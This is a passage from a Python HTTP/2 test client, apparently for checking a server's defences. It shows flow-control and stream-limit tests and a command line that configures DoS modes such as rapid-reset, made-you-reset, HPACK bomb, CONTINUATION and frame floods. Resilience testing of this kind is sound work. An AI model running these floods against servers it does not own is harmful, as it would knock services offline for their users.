    if args.beside:
        # Stream 3 beside it: an upload that goes on (a byte every 0.3 s,
        # well inside timeouts.idle), so the connection always has an
        # exchange running while stream 1's answer waits on its window.
        r.send(HeadersFrame(3, data=request_block("POST", args.beside, args.authority),
                            flags=["END_HEADERS"]).serialize())
        while time.monotonic() - start < args.wait and not (1 in r.resets or r.calm()):
            r.send(DataFrame(3, data=b"x").serialize())
            r.wait(lambda: 1 in r.resets or r.calm(), timeout=0.3)
        if 3 in r.resets or r.calm():
            emit({"ok": False, "error": "the upload beside was cut: reset %s, goaway %r"
                  % (r.resets.get(3), r.goaways)})
            return
    else:
        r.wait(lambda: 1 in r.resets or r.calm(), timeout=args.wait)
    reset = r.resets.get(1)
    ok = reset is not None or r.calm()
    out = {"ok": ok, "status": r.status.get(1), "data_bytes": r.data.get(1, 0), "reset": reset,
           "goaway": r.goaways, "closed": r.closed,
           "seconds": round(time.monotonic() - start, 1)}
    if r.data.get(1, 0):
        ok = out["ok"] = False
        out["error"] = "DATA sent into a zero window"
    elif not ok:
        out["error"] = "the stalled stream was neither reset nor closed in %ss" % args.wait
    emit(out)


def cmd_starve(args):
    """Per-stream flow control: stream 1 never gets window (its large
    response stalls), stream 3 on the same connection gets window as it
    reads, and must complete while stream 1 stays stalled."""
    r = Raw(args, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    r.starved.add(1)
    r.handshake()
    r.send(HeadersFrame(1, data=request_block("GET", args.stalled_path, args.authority),
                        flags=["END_HEADERS", "END_STREAM"]).serialize())
    r.wait(lambda: 1 in r.status or 1 in r.resets or r.calm())
    r.send(HeadersFrame(3, data=request_block("GET", args.path, args.authority),
                        flags=["END_HEADERS", "END_STREAM"]).serialize() +
           WindowUpdateFrame(3, window_increment=1 << 20).serialize())
    r.wait(lambda: 3 in r.ended or 3 in r.resets or r.calm())
    length = r.header(3, "content-length")
    errors = []
    if r.status.get(1) != 200 or 1 in r.resets or r.data.get(1, 0) != 0:
        errors.append("stream 1 (stalled): status %s, reset %s, %d bytes"
                      % (r.status.get(1), r.resets.get(1), r.data.get(1, 0)))
    if r.status.get(3) != 200 or 3 not in r.ended or (
            length is not None and int(length) != r.data.get(3, 0)):
        errors.append("stream 3 beside it: status %s, reset %s, ended %s, %d bytes of %s"
                      % (r.status.get(3), r.resets.get(3), 3 in r.ended, r.data.get(3, 0),
                         length))
    if r.goaways or r.closed:
        errors.append("the connection ended: goaway %r, closed %s" % (r.goaways, r.closed))
    emit({"ok": not errors, "errors": errors, "stream3_bytes": r.data.get(3, 0)})


def cmd_max_streams(args):
    r = Raw(args)
    r.handshake()
    limit = r.remote_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
    if args.expect_max is not None and limit != args.expect_max:
        raise Fail("SETTINGS_MAX_CONCURRENT_STREAMS is %r, not %d" % (limit, args.expect_max))
    sids = [1 + 2 * i for i in range(args.open)]
    block = request_block("GET", args.path, args.authority)
    r.send(b"".join(HeadersFrame(s, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                    for s in sids))
    r.wait(lambda: all(s in r.ended or s in r.resets for s in sids) or r.calm())
    if r.goaways:
        # In-flight streams may still finish after a GOAWAY; not waited for
        # past the deadline.
        r.wait(lambda: all(s in r.ended or s in r.resets or s > r.goaways[-1][1] for s in sids))
    answered = [s for s in sids if r.status.get(s) == 200]
    refused = [s for s in sids if r.resets.get(s) == REFUSED_STREAM]
    others = {s: r.resets[s] for s in sids if s in r.resets and r.resets[s] != REFUSED_STREAM}
    ok = (bool(refused) or bool(r.goaways)) and limit is not None and len(answered) <= limit
    emit({"ok": ok, "max_concurrent_streams": limit, "opened": len(sids),
          "answered": answered, "refused": refused, "other_resets": others,
          "goaway": r.goaways, "closed": r.closed})


# ---- command line -----------------------------------------------------------

def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", required=True)
    p.add_argument("--authority")
    p.add_argument("--cafile")
    p.add_argument("--alpn", default="h2")
    p.add_argument("--timeout", type=float, default=30.0)
    sub = p.add_subparsers(dest="cmd", required=True)

    g = sub.add_parser("get")
    g.add_argument("--path", action="append")
    g.add_argument("--count", type=int, default=1, help="requests per path, all concurrent")
    g.add_argument("--method", default="GET")
    g.add_argument("--header", action="append", help="'name: value' (repeatable, sent as is)")
    g.add_argument("--fields", type=int, default=0, help="N more fields 'x-f: 1'")
    g.add_argument("--crumbs", type=int, default=0, help="N cookie fields 'cookie: cI=1'")
    g.add_argument("--trailer", action="append", help="request trailer 'name: value'")
    g.add_argument("--body-bytes", type=int)
    g.add_argument("--expect-status", type=int, default=200)
    g.add_argument("--show", type=int, default=3, help="responses reported in full")
    g.add_argument("--pause", nargs=2, metavar=("READY", "GO"))
    g.set_defaults(fn=cmd_get)

    w = sub.add_parser("websocket")
    w.add_argument("--path", default="/ws")
    w.add_argument("--messages", type=int, default=3)
    w.add_argument("--size", type=int, default=10)
    w.add_argument("--pause", nargs=2, metavar=("READY", "GO"),
                   help="after the first echo, as get's --pause")
    w.set_defaults(fn=cmd_websocket)

    b = sub.add_parser("big-header")
    b.add_argument("--bytes", type=int, required=True)
    b.add_argument("--path", default="/")
    b.add_argument("--good-path", default="/")
    b.set_defaults(fn=cmd_big_header)

    b = sub.add_parser("stalled-431")
    b.add_argument("--bytes", type=int, required=True)
    b.add_argument("--path", default="/")
    b.add_argument("--wait", type=float, default=30.0)
    b.set_defaults(fn=cmd_stalled_431)

    m = sub.add_parser("malformed")
    m.add_argument("--kind", choices=sorted(MALFORMED), required=True)
    m.add_argument("--path", default="/")
    m.add_argument("--good-path", default="/")
    m.set_defaults(fn=cmd_malformed)

    d = sub.add_parser("drain")
    d.add_argument("--path", required=True)
    d.add_argument("--ready", help="a file written once the request is sent")
    d.set_defaults(fn=cmd_drain)

    def attack(name, fn, **kw):
        a = sub.add_parser(name, **kw)
        a.add_argument("--path", default="/")
        a.add_argument("--accept", default="%#x" % ENHANCE_YOUR_CALM,
                       help="GOAWAY codes accepted (comma-separated)")
        a.add_argument("--max-seconds", type=float, default=60.0)
        a.add_argument("--no-read", action="store_true",
                       help="never read while flooding (the server's ACKs pile up)")
        a.set_defaults(fn=fn)
        return a

    a = attack("rapid-reset", cmd_rapid_reset)
    a.add_argument("--streams", type=int, default=10000)
    u = sub.add_parser("upload-reset", help=cmd_upload_reset.__doc__)
    u.add_argument("--stall-path", required=True)
    u.add_argument("--path", required=True)
    u.add_argument("--rounds", type=int, default=6)
    u.add_argument("--bytes", type=int, default=2000000)
    u.set_defaults(fn=cmd_upload_reset)
    a = attack("made-you-reset", cmd_made_you_reset)
    a.add_argument("--streams", type=int, default=10000)
    a = attack("slow-headers", cmd_slow_headers)
    a = attack("continuation", cmd_continuation)
    a.add_argument("--size", choices=["tiny", "large", "empty"], default="tiny")
    a.add_argument("--frames", type=int, default=0, help="the bound (0: by size)")
    a = attack("hpack-bomb", cmd_hpack_bomb)
    a.add_argument("--value-bytes", type=int, default=4000)
    a.add_argument("--refs", type=int, default=4000)
    a = attack("flood", cmd_flood)
    a.add_argument("--kind", required=True,
                   choices=["settings", "ping", "data", "priority", "window-update"])
    a.add_argument("--frames", type=int, default=100000)
    a = attack("zero-window", cmd_zero_window)
    a.add_argument("--wait", type=float, default=30.0)
    a.add_argument("--beside", help="a path for an upload that runs beside the stalled stream")
    a = attack("starve", cmd_starve)
    a.add_argument("--stalled-path", required=True)
    a = attack("idle", cmd_idle)
    a.add_argument("--wait", type=float, default=30.0)
    a = attack("max-streams", cmd_max_streams)
    a.add_argument("--open", type=int, default=10)
    a.add_argument("--expect-max", type=int)

    args = p.parse_args()
    if args.authority is None:
        args.authority = args.sni
    try:
        args.fn(args)
    except Fail as e:
        emit({"ok": False, "cmd": args.cmd, "error": str(e)})
    except (OSError, ssl.SSLError) as e:
        emit({"ok": False, "cmd": args.cmd, "error": "connection: %r" % e})


if __name__ == "__main__":
    main()
